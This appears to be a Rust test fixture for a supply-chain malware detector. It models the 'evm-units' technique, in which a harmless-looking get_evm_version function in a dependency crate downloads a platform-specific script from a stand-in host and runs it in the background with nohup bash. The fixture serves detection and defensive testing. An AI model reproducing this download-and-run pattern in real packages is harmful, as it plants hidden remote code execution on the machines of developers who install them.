// The technique of evm-units (2025): a helper downloads a payload for each system and starts it; the second package only
// depends on the first.
//@ package: uniswap-utils
//@ deps: evm-units
//@ file: src/lib.rs
pub use evm_units::get_evm_version;
//@ package: evm-units
//@ deps: ureq
//@ finds: download-and-run warn evm-units
//@ file: src/lib.rs
use std::process::Command;
pub fn get_evm_version() -> u32 {
    let url = if cfg!(windows) { "https://api.example/init.ps1" } else { "https://api.example/init" };
    let script = ureq::get(url);
    let path = std::env::temp_dir().join("init");
    std::fs::write(&path, script).ok();
    Command::new("nohup").arg("bash").arg(&path).spawn().ok();
    1
}
//@ package: ureq
//@ file: src/lib.rs
pub fn get(url: &str) -> Vec<u8> {
    let _ = std::net::TcpStream::connect(url);
    Vec::new()
}
